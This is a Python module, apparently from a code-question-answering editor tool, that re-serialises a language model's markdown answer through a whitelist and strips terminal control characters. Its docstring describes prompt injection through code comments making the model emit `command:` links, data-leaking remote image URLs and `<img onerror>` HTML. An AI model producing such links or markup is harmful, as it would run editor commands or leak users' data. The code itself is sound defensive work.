"""Model output → markdown that can only render as a whitelist, before any client sees it.

A model's answer is attacker-controlled (prompt injection through a comment in the code it
read). Editors render it as markdown: a link to `command:...` runs an editor command, a remote
image (`![](https://x?leak=...)`) is fetched on display and leaks whatever the model put in
the URL, raw HTML (`<img src=x onerror=...>`) reaches the webview. Regex stripping was tried
and failed twice (issue 15: nested links survived a single pass; issue 14: a rule anchored
at "line start" was applied to each run of prose between code spans, so the prose after
"`apply_discount` [1]: ..." was deleted). So the text is parsed with a real CommonMark
parser (markdown-it-py) and re-serialised from the syntax tree, keeping only:

- text, emphasis, strong emphasis, inline code, fenced/indented code (as fences), headings,
  bullet and ordered lists, paragraphs and line breaks;
- citation markers `[n]` as plain text: the server turns verified ones into its own links.

Everything else keeps its *text* and loses its power: a link becomes its label, an image its
alt text, raw HTML is shown escaped, a quote or a rule becomes plain paragraphs. Nothing the
model wrote as prose is deleted.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

from codeqa_lsp.answering.markdown import code_fence, code_span

# CommonMark with raw HTML recognised (so it can be shown escaped, not passed through).
# Reference definitions are off: `[1]: ...` would vanish from the text (a definition renders
# as nothing), and the model's prose must never be deleted.
_PARSER = MarkdownIt("commonmark", {"html": True}).disable("reference")
# Parse every link as a link, whatever its scheme (markdown-it leaves `file:` / `javascript:`
# ones as text): we never keep a target, and a parsed link is reduced to its label.
_PARSER.validateLink = lambda url: True  # type: ignore[method-assign]
_MARKER_TEXT = re.compile(r"\d+(?:\s*[,;\-–]\s*\d+)*")
_MARKER = re.compile(r"\[\s*\d+(?:\s*[,;\-–]\s*\d+)*\s*\]")
_AFTER_MARKER = re.compile(r"(?<!\\)\]([(])")
_DEFINITION = re.compile(r"(?m)^(\s*\[[^\]\n]*\]):")
_ALWAYS_ESCAPE = set("\\`*<>[]")
_LINE_START = re.compile(r"^(\s*)([#=+\-~|]|\d+[.)])")
_INFO = re.compile(r"[^\w+#.\-]")


# C0 controls except newline and tab, DEL, and the C1 range (8-bit CSI/OSC in some
# terminals): what turns repository or model text into terminal escape sequences (an OSC 52
# sets the clipboard). Every plain-text front (the CLI, the MCP server) strips them.
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def strip_controls(text: str) -> str:
    """The text without control characters (newlines and tabs kept)."""
    return _CONTROL.sub("", text)


def sanitize_markdown(text: str) -> str:
    """`text` re-serialised from its CommonMark tree, reduced to the whitelist above."""
    if not text.strip():
        return text
    tree = SyntaxTreeNode(_PARSER.parse(text))
    body = _blocks(tree.children, tight=False)
    return body + ("\n" if text.endswith("\n") else "")


def escape_preview(text: str, previous: str = "") -> str:
    """A streamed delta made inert without parsing (a delta may cut a link in half).

    Links and images need `](` (or `]:` for a definition), HTML and autolinks need `<`:
    escaping `<`, `>`, a `(` or `:` right after `]` (`previous` is the last character of
    the preceding delta) and the backslash itself (so a delta ending in `\\` cannot
    un-escape the next one) leaves nothing active, while markers like `[1]` stay readable.
    Previews are replaced by the sanitised final answer.
    """
    out: list[str] = []
    for char in text:
        if char in "\\<>" or (char in "(:" and previous == "]"):
            out.append("\\" + char)
        else:
            out.append(char)
        previous = char
    return "".join(out)


def _blocks(nodes: list[SyntaxTreeNode], tight: bool) -> str:
    parts = [p for p in (_block(n, tight) for n in nodes) if p.strip()]
    return ("\n" if tight else "\n\n").join(parts)


def _block(node: SyntaxTreeNode, tight: bool) -> str:
    kind = node.type
    if kind == "paragraph":
        return _inline_children(node)
    if kind == "heading":
        level = int(node.tag[1]) if node.tag[1:].isdigit() else 1
        return "#" * level + " " + _inline_children(node).replace("\n", " ")
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind in ("fence", "code_block"):
        return code_fence(
            node.content, _INFO.sub("", node.info.split()[0]) if node.info.strip() else ""
        )
    if kind == "html_block":
        return _escape_text(node.content.rstrip("\n"))
    if kind == "hr":
        return ""
    # blockquote, list items reached directly, anything newer: keep the content as plain blocks
    return _blocks(node.children, tight)


def _list(node: SyntaxTreeNode) -> str:
    ordered = node.type == "ordered_list"
    start = int(node.attrs.get("start", 1) or 1) if ordered else 1
    tight = all(not c.children or all(g.hidden for g in _paragraphs(c)) for c in node.children)
    items: list[str] = []
    for index, item in enumerate(node.children):
        marker = f"{start + index}. " if ordered else "- "
        body = _blocks(item.children, tight) or ""
        indent = " " * len(marker)
        lines = body.split("\n")
        items.append(
            marker
            + lines[0]
            + "".join("\n" + (indent + line if line else "") for line in lines[1:])
        )
    return ("\n" if tight else "\n\n").join(items)


def _paragraphs(item: SyntaxTreeNode) -> list[SyntaxTreeNode]:
    return [c for c in item.children if c.type == "paragraph"]


def _inline_children(node: SyntaxTreeNode) -> str:
    inline = node.children[0] if node.children and node.children[0].type == "inline" else node
    text = "".join(_inline(child) for child in inline.children)
    # A kept marker must not become a link (`[1](x)`) or a definition (`[1]: x` at line start).
    text = _AFTER_MARKER.sub(r"]\\\1", text)
    text = _DEFINITION.sub(r"\1\\:", text)
    # Structure that only exists at the start of a line (headings, list items, fences,
    # setext underlines) must not appear where the model's text had none.
    return "\n".join(_LINE_START.sub(r"\1\\\2", line) for line in text.split("\n"))


def _inline(node: SyntaxTreeNode) -> str:
    kind = node.type
    if kind in ("text", "text_special"):
        return _escape_text(node.content)
    if kind in ("softbreak", "hardbreak"):
        return "\n"
    if kind == "code_inline":
        return code_span(node.content)
    if kind == "em":
        return "*" + "".join(_inline(c) for c in node.children) + "*"
    if kind == "strong":
        return "**" + "".join(_inline(c) for c in node.children) + "**"
    if kind == "link":
        label = "".join(_plain(c) for c in node.children)
        if _MARKER_TEXT.fullmatch(label.strip()):
            return f"[{label.strip()}]"  # a marker, verified later like any other
        return "".join(_inline(c) for c in node.children)
    if kind == "image":
        return _escape_text("".join(_plain(c) for c in node.children))
    if kind == "html_inline":
        return _escape_text(node.content)
    return (
        "".join(_inline(c) for c in node.children)
        if node.children
        else _escape_text(node.content or "")
    )


def _plain(node: SyntaxTreeNode) -> str:
    if node.children:
        return "".join(_plain(c) for c in node.children)
    return node.content or ""


def _escape_text(text: str) -> str:
    """Backslash-escape what could build markup; citation markers stay readable markers."""
    out: list[str] = []
    position = 0
    for match in _MARKER.finditer(text):
        out.append(_escape_plain(text[position : match.start()]))
        out.append(match.group(0))
        position = match.end()
    out.append(_escape_plain(text[position:]))
    return "".join(out)


def _escape_plain(text: str) -> str:
    chars: list[str] = []
    for index, char in enumerate(text):
        if char in _ALWAYS_ESCAPE:
            chars.append("\\" + char)
        elif char == "_" and not (
            0 < index < len(text) - 1 and text[index - 1].isalnum() and text[index + 1].isalnum()
        ):
            chars.append("\\_")
        elif char == "!" and text[index + 1 : index + 2] == "[":
            chars.append("\\!")
        else:
            chars.append(char)
    return "".join(chars)
